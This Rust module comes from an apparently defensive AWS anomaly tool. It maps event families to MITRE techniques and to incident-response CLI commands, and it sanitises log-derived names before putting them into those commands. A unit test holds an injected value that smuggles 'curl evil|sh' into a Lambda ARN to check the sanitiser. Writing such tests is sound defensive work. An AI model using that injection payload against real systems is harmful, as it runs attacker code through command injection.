//! What a surge of each family may mean, and what to do.

use super::families::Family;
use super::tell::short;

/// Techniques and steps for one family.
pub(super) struct Advice {
    pub(super) mitre: Vec<&'static str>,
    pub(super) next_steps: Vec<String>,
}

/// The advice for a key. An entity stands in a command only where it is plain: it came from a log.
pub(super) fn of(family: Family, entity: &str) -> Advice {
    let name = if is_plain(short(entity)) { short(entity) } else { "NAME" };
    let whole = if is_plain(entity) { entity } else { "ID" };
    let (mitre, steps): (&[&str], Vec<String>) = match family {
        Family::Function | Family::Attempts => (
            &["T1496.004", "T1499.003"],
            vec![
                format!("See what calls it: aws lambda get-policy --function-name {name}"),
                format!(
                    "Stop it, if need be: aws lambda put-function-concurrency --function-name {name} \
                     --reserved-concurrent-executions 0"
                ),
                format!("Look for failures: aws logs tail /aws/lambda/{name} --since 1h"),
            ],
        ),
        Family::Model | Family::Agent => (
            &["T1496.004"],
            vec![
                "Ask the owner of the calling identity; stolen keys are used to resell model access".to_owned(),
                "See what was asked, if logged: aws bedrock get-model-invocation-logging-configuration".to_owned(),
                "Block the identity: aws iam put-role-policy or put-user-policy with a Deny on bedrock:Invoke*".to_owned(),
            ],
        ),
        Family::Workflow => (
            &["T1496.004"],
            vec![
                format!("See what runs: aws stepfunctions list-executions --state-machine-arn {whole} --status-filter RUNNING"),
                "Stop what should not: aws stepfunctions stop-execution --execution-arn ARN".to_owned(),
            ],
        ),
        Family::Endpoint => (
            &["T1496.004"],
            vec![format!("See who may call it and how it scales: aws sagemaker describe-endpoint --endpoint-name {name}")],
        ),
        Family::Message => (
            &["T1496.003", "T1496.004"],
            vec![
                "Check text message spending: aws sns get-sms-attributes; mail: aws sesv2 get-account".to_owned(),
                "Stop mail, if need be: aws sesv2 put-account-sending-attributes --no-sending-enabled".to_owned(),
            ],
        ),
        Family::Objects => (
            &["T1530", "T1567"],
            vec![
                "See which objects were read, and whether they may leave: the events' requestParameters.key".to_owned(),
                format!("See who may read: aws s3api get-bucket-policy --bucket {name}"),
            ],
        ),
        Family::ObjectWrites => (
            &["T1485", "T1486"],
            vec![
                format!("See whether versions can bring objects back: aws s3api get-bucket-versioning --bucket {name}"),
                "See whether objects were encrypted with a foreign key: the events' requestParameters".to_owned(),
            ],
        ),
        Family::Items | Family::Scans => (
            &["T1530", "T1213.006"],
            vec![
                "Ask whether the caller's job is to read the table; a function's role used elsewhere shows a foreign \
                 source address and user agent"
                    .to_owned(),
                "Cut old sessions of a role off: aws iam put-role-policy with a Deny where aws:TokenIssueTime is older".to_owned(),
            ],
        ),
        Family::ItemWrites => (
            &["T1485", "T1565.001"],
            vec!["See whether the table can be brought back: aws dynamodb describe-continuous-backups --table-name NAME".to_owned()],
        ),
        Family::Secrets | Family::Parameters | Family::Decrypts => (
            &["T1555.006"],
            vec![
                "Ask the actor; if it was not the actor, rotate what was read: aws secretsmanager rotate-secret --secret-id NAME".to_owned(),
                "Turn a user's key off: aws iam update-access-key --access-key-id KEY --status Inactive --user-name NAME".to_owned(),
                "Look where what was read has been used since".to_owned(),
            ],
        ),
        Family::Compute | Family::Jobs => (
            &["T1496.001", "T1578.002"],
            vec![
                "See what runs, in every region: aws ec2 describe-instances --filters \
                 Name=instance-state-name,Values=pending,running --region REGION"
                    .to_owned(),
                "Stop what should not: aws ec2 terminate-instances --instance-ids ID; ecs, batch, glue and sagemaker \
                 have stop commands of their own"
                    .to_owned(),
            ],
        ),
        Family::Api => (
            &["T1059.009", "T1578"],
            vec![
                "See what was changed: the events' requestParameters and responseElements".to_owned(),
                format!(
                    "List the calls: aws cloudtrail lookup-events --lookup-attributes \
                     AttributeKey=EventName,AttributeValue={}",
                    entity.rsplit(':').next().filter(|call| is_plain(call)).unwrap_or("NAME")
                ),
            ],
        ),
    };
    Advice { mitre: mitre.to_vec(), next_steps: steps }
}

/// Safe to paste into a shell.
fn is_plain(text: &str) -> bool {
    !text.is_empty() && text.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.:/".contains(&b))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_hold_no_shell_syntax_from_a_log() {
        let advice = of(Family::Function, "arn:aws:lambda:eu-west-1:111122223333:function:f;curl evil|sh");
        assert!(advice.next_steps.iter().all(|step| !step.contains("curl")), "{:?}", advice.next_steps);
        let advice = of(Family::Function, "arn:aws:lambda:eu-west-1:111122223333:function:orders");
        assert!(advice.next_steps[0].ends_with("--function-name orders"));
    }

    #[test]
    fn every_family_has_techniques_and_steps() {
        for family in Family::ALL {
            let advice = of(family, "x");
            assert!(!advice.mitre.is_empty() && !advice.next_steps.is_empty(), "{family:?}");
        }
    }
}
